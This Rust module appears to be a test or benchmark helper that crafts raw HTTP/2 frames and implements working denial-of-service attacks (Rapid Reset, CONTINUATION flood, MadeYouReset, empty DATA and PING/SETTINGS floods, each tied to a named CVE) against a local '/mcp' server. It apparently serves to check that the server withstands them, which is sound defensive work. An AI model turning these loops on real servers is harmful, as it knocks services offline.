//! What attackers send over HTTP/2, frame by frame. It stands by itself: the bench `attack` sends the same.

use std::io::{self, Read, Write};
use std::net::TcpStream;

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const GOAWAY: u8 = 7;
pub const WINDOW_UPDATE: u8 = 8;
pub const CONTINUATION: u8 = 9;
pub const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;
pub const ACK: u8 = 1;
pub const INITIAL_WINDOW_SIZE: u16 = 4;

/// A token that nobody has.
const UNKNOWN: &str = "unknown";

/// What a client of HTTP/2 begins with, before its first frame.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// An HTTP/2 client that sends whatever frames it likes.
pub struct Frames(TcpStream);

impl Frames {
    /// Begins HTTP/2 with prior knowledge.
    pub fn over(stream: TcpStream, settings: &[(u16, u32)]) -> io::Result<Self> {
        let mut client = Self(stream);
        client.0.write_all(PREFACE)?;
        let settings: Vec<u8> =
            settings.iter().flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()).collect();
        client.send(SETTINGS, 0, 0, &settings)?;
        Ok(client)
    }

    pub fn send(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> io::Result<()> {
        self.0.write_all(&frame(kind, flags, stream, payload))
    }

    /// The same frame, so many times, in one go.
    pub fn send_often(&mut self, kind: u8, stream: u32, payload: &[u8], count: usize) -> io::Result<()> {
        self.0.write_all(&frame(kind, 0, stream, payload).repeat(count))
    }

    pub fn request(&mut self, stream: u32, token: &str) -> io::Result<()> {
        self.send(HEADERS, END_STREAM | END_HEADERS, stream, &head("GET", token))
    }

    /// The head of a POST whose body follows.
    pub fn begin_upload(&mut self, stream: u32, token: &str) -> io::Result<()> {
        self.send(HEADERS, END_HEADERS, stream, &head("POST", token))
    }

    /// The next frame: its kind, its flags and its payload; `None` at the end of the connection.
    pub fn frame(&mut self) -> Option<(u8, u8, Vec<u8>)> {
        let mut head = [0; 9];
        self.0.read_exact(&mut head).ok()?;
        let mut payload = vec![0; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
        self.0.read_exact(&mut payload).ok()?;
        Some((head[3], head[4], payload))
    }

    pub fn await_end(&mut self) -> Vec<(u8, u8, Vec<u8>)> {
        std::iter::from_fn(|| self.frame()).collect()
    }

    /// The error code of the last GOAWAY before the end of the connection.
    pub fn goaway(&mut self) -> Option<u32> {
        let frames = self.await_end();
        let (_, _, payload) = frames.iter().rfind(|(kind, _, _)| *kind == GOAWAY)?;
        Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()))
    }
}

/// A field of a head, in literals that no table keeps.
fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

/// A frame as it is sent.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The fields of a request for `/mcp`.
pub fn head(method: &str, token: &str) -> Vec<u8> {
    head_to("/mcp", method, token)
}

/// The fields of a request.
pub fn head_to(path: &str, method: &str, token: &str) -> Vec<u8> {
    [
        field(":method", method),
        field(":scheme", "http"),
        field(":path", path),
        field(":authority", "localhost"),
        field("authorization", &format!("Bearer {token}")),
    ]
    .concat()
}

// --- Attacks, each on one connection, until nobody takes it any more ------------------------

/// CVE-2023-44487: requests that are taken back as soon as they are made.
pub fn rapid_resets(client: &mut Frames) {
    for stream in (1..4000).step_by(2) {
        let sent = client.request(stream, UNKNOWN);
        if sent.and_then(|()| client.send(RST_STREAM, 0, stream, &8u32.to_be_bytes())).is_err() {
            break;
        }
    }
}

/// CVE-2024-27316 and its like: a head that goes on and on.
pub fn head_without_end(client: &mut Frames) {
    let filler = [vec![0, 4], b"name".to_vec(), vec![100], vec![b'x'; 100]].concat().repeat(100);
    let begun = client.send(HEADERS, END_STREAM, 1, &head("GET", UNKNOWN));
    while begun.is_ok() && client.send(CONTINUATION, 0, 1, &filler).is_ok() {}
}

/// CVE-2025-8671, MadeYouReset: requests with a fault, for which the server takes them back itself.
pub fn made_you_reset(client: &mut Frames) {
    for stream in (1..4000).step_by(2) {
        // more data than was announced is an error of the stream
        let head = [head("POST", UNKNOWN), field("content-length", "1")].concat();
        let sent = client.send(HEADERS, END_HEADERS, stream, &head);
        if sent.and_then(|()| client.send(DATA, 0, stream, b"{}")).is_err() {
            break;
        }
    }
}

/// CVE-2019-9518: a body that is nothing but frames.
pub fn empty_data(client: &mut Frames) {
    let begun = client.begin_upload(1, UNKNOWN);
    while begun.is_ok() && client.send(DATA, 0, 1, b"").is_ok() {}
}

/// CVE-2019-9512 and CVE-2019-9515: what has to be answered, again and again. How often it was sent.
pub fn asking_for_answers(client: &mut Frames, kind: u8) -> u64 {
    let payload = if kind == PING { &[0; 8][..] } else { &[] };
    let mut sent = 0;
    while client.send(kind, 0, 0, payload).is_ok() {
        sent += 1;
    }
    sent
}
